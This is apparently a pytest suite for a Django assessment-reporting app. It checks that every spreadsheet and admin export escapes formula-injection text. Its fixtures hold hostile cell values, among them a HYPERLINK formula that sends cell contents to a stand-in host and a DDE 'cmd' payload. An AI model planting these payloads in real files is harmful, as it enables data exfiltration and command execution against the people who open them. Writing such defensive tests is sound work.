"""Formula injection: user text that a spreadsheet would evaluate is written as text in every
export (annex, unit results, offline form, bulk template, every admin import-export format);
figures stay numbers; a re-uploaded offline form never turns a note into a formula."""

import csv
import io
import json

import openpyxl
import pytest
from django.contrib import admin
from django.urls import reverse
from import_export.forms import SelectableFieldsExportForm

from assessment.models import Answer, Assessment
from criteria.models import Criterion
from reports.models import Remarks
from safety.formulas import DANGEROUS, formula_cells
from units.models import Unit

from .world import answer, approved

HYPERLINK = '=HYPERLINK("http://ke-xau.example/?d="&A1,"Bấm vào đây")'
EVIL = {
    "unit_a": HYPERLINK,
    "unit_b": "@SUM(1+1)*cmd|' /C calc'!A0",
    "note": "-1+1",
    "strengths": "\t=1+1 (dẫn đầu bằng TAB)",
    "weaknesses": "\r=2+2 (dẫn đầu bằng CR)",
    "short": "+84 912 345 678",
}


@pytest.fixture
def hostile_world(world, profile):
    """Both forms approved and published, with hostile text stored directly (as old data would be)."""
    approved(world, world.form_a, world.staff_a)
    approved(world, world.form_b, world.staff_b, change="780")
    Unit.objects.filter(pk=world.form_a.unit_id).update(name=EVIL["unit_a"], short_name=EVIL["short"])
    Unit.objects.filter(pk=world.form_b.unit_id).update(name=EVIL["unit_b"])
    Answer.objects.filter(pk=answer(world.form_a, "I.1").pk).update(note=EVIL["note"])
    Remarks.objects.update_or_create(assessment=world.form_a, defaults={
        "strengths": EVIL["strengths"], "weaknesses": EVIL["weaknesses"]})
    return world


def xlsx_problems(data, *, expect=()):
    """Formula cells and unescaped formula-like text in a workbook, and the hostile texts found."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    texts = {c.value for s in book.worksheets for row in s.iter_rows() for c in row if isinstance(c.value, str)}
    missing = [e for e in expect if not any(e in t for t in texts)]
    return formula_cells(book), missing, book


def content(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_annex_excel_keeps_hostile_text_as_text_and_figures_as_numbers(hostile_world, login, profile):
    import datetime

    from reports.snapshot import publish

    item = publish(hostile_world.period, profile, by=hostile_world.leader, number="16/QĐ", date=datetime.date(2021, 1, 6))
    response = login(hostile_world.leader).get(reverse("reports:xlsx", args=[item.pk]))
    formulas, missing, book = xlsx_problems(content(response), expect=[EVIL["unit_a"], EVIL["strengths"].strip(),
                                                                        EVIL["unit_b"]])
    assert formulas == [] and missing == []
    sheet = book.worksheets[0]
    numbers = [c.value for row in sheet.iter_rows() for c in row if c.data_type == "n" and c.value is not None]
    assert 19 in numbers or 19.0 in numbers  # unit A's total, a number cell


def test_unit_results_excel(hostile_world, login, profile):
    import datetime

    from reports.snapshot import publish

    publish(hostile_world.period, profile, by=hostile_world.leader, number="16/QĐ", date=datetime.date(2021, 1, 6))
    unit = Unit.objects.get(pk=hostile_world.form_a.unit_id)
    response = login(hostile_world.staff_a).get(reverse("reports:unit_xlsx", args=[unit.code]))
    formulas, missing, _ = xlsx_problems(content(response), expect=[EVIL["unit_a"]])
    assert formulas == [] and missing == []


def test_offline_form_and_its_round_trip(hostile_world, login, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    Assessment.objects.filter(pk=hostile_world.form_a.pk).update(status=Assessment.Status.DRAFT)
    client = login(hostile_world.staff_a)
    data = content(client.get(reverse("assessment:offline", args=[hostile_world.form_a.pk])))
    formulas, missing, book = xlsx_problems(data, expect=[EVIL["note"], EVIL["unit_a"].upper()])
    assert formulas == [] and missing == []
    # Sent back unchanged: the note is still the same text, nothing to save.
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = client.post(reverse("assessment:offline_upload", args=[hostile_world.form_a.pk]),
                           {"file": SimpleUploadedFile("phieu.xlsx", data)})
    assert response.status_code == 200
    assert answer(hostile_world.form_a, "I.1").note == EVIL["note"]
    # A note typed in Excel as a formula is refused, not stored as one.
    sheet = book["Phiếu tự đánh giá"]
    note_cell = next(row[6] for row in sheet.iter_rows(min_row=7) if row[0].value == "I.1")
    note_cell.value = "=1+1"
    output = io.BytesIO()
    book.save(output)
    response = client.post(reverse("assessment:offline_upload", args=[hostile_world.form_a.pk]),
                           {"file": SimpleUploadedFile("phieu.xlsx", output.getvalue())})
    assert f"Ô {note_cell.coordinate} (tiêu chí I.1, ghi chú): là công thức" in response.content.decode()
    assert answer(hostile_world.form_a, "I.1").note == EVIL["note"]


def test_bulk_template(hostile_world, login):
    response = login(hostile_world.admin).get(reverse("assessment:bulk", args=[hostile_world.period.pk]),
                                              {"bo": hostile_world.form_a.criteria_set_id, "mau": "1"})
    formulas, missing, _ = xlsx_problems(content(response), expect=[EVIL["unit_a"], EVIL["unit_b"]])
    assert formulas == [] and missing == []


def _admin_exports(client, model):
    """Every export format the admin of ``model`` offers, through the admin's own export page."""
    model_admin = admin.site._registry[model]
    resource = model_admin.get_export_resource_classes(None)[0]
    names = list(resource().get_export_order())
    url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export")
    for index, fmt in enumerate(model_admin.get_export_formats()):
        data = {"format": index, "resource": 0, "export_items": []}
        for name in names:
            data[SelectableFieldsExportForm.create_boolean_field_name(resource, name)] = "on"
        response = client.post(url, data)
        assert response.status_code == 200, (fmt, response.content[:500])
        yield fmt().get_title(), content(response)
    assert names


def _cells(title, data):
    if title in ("csv", "tsv"):
        text = data.decode("utf-8-sig")
        return [c for row in csv.reader(io.StringIO(text), delimiter="," if title == "csv" else "\t") for c in row]
    if title == "json":
        return [str(v) for row in json.loads(data) for v in row.values()]
    if title == "yaml":
        import yaml

        return [str(v) for row in yaml.safe_load(data) for v in row.values()]
    return None


@pytest.mark.parametrize("model", [Unit, Assessment, Criterion])
def test_every_admin_export_format(hostile_world, client, model):
    hostile_world.admin.is_superuser = True
    hostile_world.admin.save()
    client.force_login(hostile_world.admin)
    Criterion.objects.filter(code="I.1").update(title=EVIL["note"])
    seen = []
    for title, data in _admin_exports(client, model):
        seen.append(title)
        if title == "xlsx":
            formulas, _, _ = xlsx_problems(data)
            assert formulas == [], title
        cells = _cells(title, data)
        if cells is not None:
            live = [c for c in cells if c.startswith(DANGEROUS)]
            assert live == [], (title, live)
            expected = {Unit: EVIL["unit_a"], Assessment: EVIL["unit_a"], Criterion: EVIL["note"]}[model]
            assert "'" + expected in cells, title
        if title in ("html",):
            assert b"=HYPERLINK" not in data or b"'=HYPERLINK" in data
    assert {"csv", "xlsx", "tsv"} <= set(seen)
